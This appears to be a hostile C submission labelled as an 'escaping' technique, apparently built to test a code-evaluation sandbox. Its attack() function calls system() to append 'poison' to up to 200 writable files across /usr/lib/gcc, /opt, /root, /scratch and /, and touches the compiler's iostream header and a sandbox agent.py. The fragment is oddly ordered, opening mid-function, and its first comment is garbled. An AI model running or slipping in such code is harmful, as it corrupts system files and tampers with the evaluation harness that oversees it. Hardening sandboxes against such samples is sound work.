// technique: everything warm and shared, written to
// class: escaping
// expect: wrong_answer
    void attack();
    attack();
    return 0;
}

#include <stdlib.h>
void attack() {
    if (system("for f in $(find /usr/lib/gcc /opt /root /scratch / -xdev -maxdepth 6 -writable 2>/dev/null | grep -v ^/proc | head -200);"
               " do echo poison >> $f; done; touch /usr/include/iostream /opt/humaneval_x/sandboxes/agent.py 2>/dev/null")) {}
}
